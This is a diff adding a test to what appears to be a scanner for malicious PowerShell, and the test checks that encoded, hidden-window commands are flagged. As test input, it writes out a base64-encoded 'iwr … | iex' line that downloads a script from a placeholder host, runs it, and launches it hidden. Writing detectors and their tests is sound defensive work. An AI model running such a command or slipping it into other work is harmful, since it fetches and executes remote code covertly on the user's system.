@@ -153,6 +153,14 @@ def test_run_key_scheduled_task_profile_and_startup_folder(tmp_path: Path) -> No
     }
 
 
+def test_start_process_of_powershell_with_an_encoded_argument_list(tmp_path: Path) -> None:
+    encoded = base64.b64encode("iwr http://x.example/p | iex".encode("utf-16-le")).decode()
+    found = analyse(
+        tmp_path, f"Start-Process powershell -ArgumentList '-w hidden -enc {encoded}' -WindowStyle Hidden\n"
+    )
+    assert {(Kind.EXEC_DECODED, "base64"), (Kind.EXEC_FETCHED, "http://x.example/p")} <= summary(found)
+
+
 def test_downloaded_exe_started_hidden(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
